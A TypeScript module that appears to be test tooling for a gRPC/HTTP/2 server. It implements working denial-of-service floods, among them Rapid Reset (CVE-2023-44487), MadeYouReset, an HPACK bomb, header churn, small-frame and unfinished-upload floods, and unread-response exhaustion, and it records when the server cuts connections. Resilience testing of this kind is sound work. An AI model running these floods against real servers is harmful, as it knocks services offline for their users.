import {
  CANCEL,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  headerBlock,
  hpackString,
  postTo,
  RawHttp2,
  RST_STREAM,
  uint32,
} from "@rollcall/testing/raw/http2";

const GET_USER = "/user.v1.UserService/GetUser";

export interface AttackResult {
  /** Number of connections that the server ended. */
  readonly cut: number;
  /** Number of requests sent. */
  readonly requests: number;
  /** Number of refused requests, if the attack reads its answers. */
  readonly refused?: number;
  /** Time from the first byte to the first end of a connection, in milliseconds. */
  readonly firstCutMs: number | undefined;
}

/**
 * Sends the results of `next` for a while, as fast as the server reads. Opens a new connection whenever one is ended.
 */
async function flood(
  port: number,
  durationMs: number,
  next: (client: RawHttp2) => { bytes: Buffer; requests: number },
): Promise<AttackResult> {
  const startedAtMs = performance.now();
  const isOver = () => performance.now() - startedAtMs > durationMs;
  let cut = 0;
  let requests = 0;
  let firstCutMs: number | undefined;
  while (!isOver()) {
    const client = await RawHttp2.open(port);
    while (!isOver() && !client.isClosed) {
      const { bytes, requests: more } = next(client);
      requests += more;
      await client.sendAll(bytes);
      // The pause lets the connection's end be seen.
      await new Promise(setImmediate);
      client.received.length = 0;
    }
    if (client.isClosed) {
      cut += 1;
      firstCutMs ??= performance.now() - startedAtMs;
    }
    client.destroy();
  }
  return { cut, requests, firstCutMs };
}

/** Begins requests and cancels them at once (CVE-2023-44487). */
export function rapidReset(port: number, durationMs: number, headers = {}): Promise<AttackResult> {
  const block = headerBlock(postTo(GET_USER, headers));
  return flood(port, durationMs, (client) => {
    const pairs = Array.from({ length: 500 }, () => {
      const streamId = client.reserveStreamId();
      return Buffer.concat([
        frame(HEADERS, END_HEADERS, streamId, block),
        frame(RST_STREAM, 0, streamId, uint32(CANCEL)),
      ]);
    });
    return { bytes: Buffer.concat(pairs), requests: pairs.length };
  });
}

/** Makes the server reset streams: a WINDOW_UPDATE of zero is a stream error (CVE-2025-8671). */
export function madeYouReset(port: number, durationMs: number): Promise<AttackResult> {
  const block = headerBlock(postTo(GET_USER));
  return flood(port, durationMs, (client) => {
    const pairs = Array.from({ length: 500 }, () => {
      const streamId = client.reserveStreamId();
      return Buffer.concat([frame(HEADERS, END_HEADERS, streamId, block), frame(8, 0, streamId, uint32(0))]);
    });
    return { bytes: Buffer.concat(pairs), requests: pairs.length };
  });
}

/** Sends requests with twelve kilobytes of headers, different each time. */
export function headerChurn(port: number, durationMs: number): Promise<AttackResult> {
  return flood(port, durationMs, (client) => {
    const requests = Array.from({ length: 6 }, () => {
      const streamId = client.reserveStreamId();
      const fields: Record<string, string> = postTo(GET_USER);
      for (let i = 0; i < 60; i++) fields[`x-${streamId}-${i}`] = String(streamId).padEnd(190, "x");
      return frame(HEADERS, END_HEADERS | END_STREAM, streamId, headerBlock(fields));
    });
    return { bytes: Buffer.concat(requests), requests: requests.length };
  });
}

/** Makes the server remember a field once. Each request then refers to the field a hundred times, by one byte each. */
export function hpackBomb(port: number, durationMs: number): Promise<AttackResult> {
  // The first form is a literal with incremental indexing (RFC 7541, 6.2.1). The second is its index, the first of the
  // dynamic table.
  const remember = Buffer.concat([Buffer.of(0x40), hpackString("x-bomb"), hpackString("x".repeat(100))]);
  const refer = Buffer.alloc(100, 0x80 | 62);
  const primed = new WeakSet<RawHttp2>();
  const block = headerBlock(postTo(GET_USER));
  return flood(port, durationMs, (client) => {
    const requests = Array.from({ length: 300 }, () => {
      const fields = [block, primed.has(client) ? refer : remember];
      primed.add(client);
      return frame(HEADERS, END_HEADERS | END_STREAM, client.reserveStreamId(), Buffer.concat(fields));
    });
    return { bytes: Buffer.concat(requests), requests: requests.length };
  });
}

/** Sends bodies in frames of one size, up to their windows, on streams whose answers have no window. */
export async function smallFrames(
  port: number,
  durationMs: number,
  { frameBytes, streams, headers = {} }: { frameBytes: number; streams: number; headers?: Record<string, string> },
): Promise<AttackResult & { bodyBytes: number }> {
  const startedAtMs = performance.now();
  const isOver = () => performance.now() - startedAtMs > durationMs;
  const client = await RawHttp2.open(port, { initialWindowBytes: 0 });
  let bodyBytes = 0;
  const streamIds = Array.from({ length: streams }, () =>
    client.request(postTo("/user.v1.UserService/CreateUser", headers)),
  );
  while (!isOver() && !client.isClosed) {
    let sent = 0;
    for (const streamId of streamIds) {
      const bytes = Math.min(4_000 * frameBytes, client.window(streamId));
      if (bytes < frameBytes || client.isClosed) continue;
      client.sendData(streamId, bytes, frameBytes);
      sent += bytes;
    }
    bodyBytes += sent;
    await client.sendAll(Buffer.alloc(0));
    await new Promise((resolve) => (sent > 0 ? setImmediate(resolve) : setTimeout(resolve, 5)));
  }
  const firstCutMs = client.isClosed ? performance.now() - startedAtMs : undefined;
  client.destroy();
  return { cut: client.isClosed ? 1 : 0, requests: streams, firstCutMs, bodyBytes };
}

const UPLOAD = "/stream.v1.StreamService/ClientStream";
const MESSAGE_BYTES = 4 * 1024 ** 2 - 64;

/**
 * Begins uploads of messages of 4 MiB, and sends as much of each as the windows allow, but never the last byte. Returns
 * the connection when everything has been sent, when the server has ended an upload, or when nothing could be sent for
 * `quietMs`.
 */
export async function unfinishedUploads(
  port: number,
  { streams, headers, quietMs }: { streams: number; headers: Record<string, string>; quietMs: number },
): Promise<{ client: RawHttp2; sentBytes: number }> {
  const client = await RawHttp2.open(port);
  const head = Buffer.alloc(5);
  head.writeUInt32BE(MESSAGE_BYTES, 1);
  const uploads = Array.from({ length: streams }, () => {
    const streamId = client.request(postTo(UPLOAD, { "content-type": "application/grpc", te: "trailers", ...headers }));
    client.send(frame(DATA, 0, streamId, head));
    return { streamId, left: MESSAGE_BYTES - 1 };
  });
  let sentBytes = 0;
  let movedAtMs = performance.now();
  const isOver = () =>
    client.isClosed ||
    uploads.every(({ left }) => left === 0) ||
    client.received.some(({ type }) => type === RST_STREAM) ||
    performance.now() - movedAtMs > quietMs;
  while (!isOver()) {
    for (const upload of uploads) {
      const bytes = Math.min(upload.left, client.window(upload.streamId) - 5, 256 * 1_024);
      if (bytes <= 0 || client.resetCode(upload.streamId) !== undefined) continue;
      client.sendData(upload.streamId, bytes, Math.min(bytes, 16_384));
      const sent = bytes - (bytes % Math.min(bytes, 16_384));
      upload.left -= sent;
      sentBytes += sent;
      movedAtMs = performance.now();
      await client.sendAll(Buffer.alloc(0));
    }
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  return { client, sentBytes };
}

/** Calls ListUsers as often as one connection may, and does not read the answers. */
export async function unreadLists(
  port: number,
  { connections, streams, headers }: { connections: number; streams: number; headers: Record<string, string> },
): Promise<RawHttp2[]> {
  const clients: RawHttp2[] = [];
  for (let i = 0; i < connections; i++) {
    // There is room for the headers of the answers, but not for their bodies.
    const client = await RawHttp2.open(port, { initialWindowBytes: 0 });
    const body = Buffer.from('{"pageSize":1000}');
    const bytes = Array.from({ length: streams }, () => {
      const streamId = client.reserveStreamId();
      return Buffer.concat([
        frame(HEADERS, END_HEADERS, streamId, headerBlock(postTo("/user.v1.UserService/ListUsers", headers))),
        frame(DATA, END_STREAM, streamId, body),
      ]);
    });
    await client.sendAll(Buffer.concat(bytes));
    clients.push(client);
  }
  return clients;
}
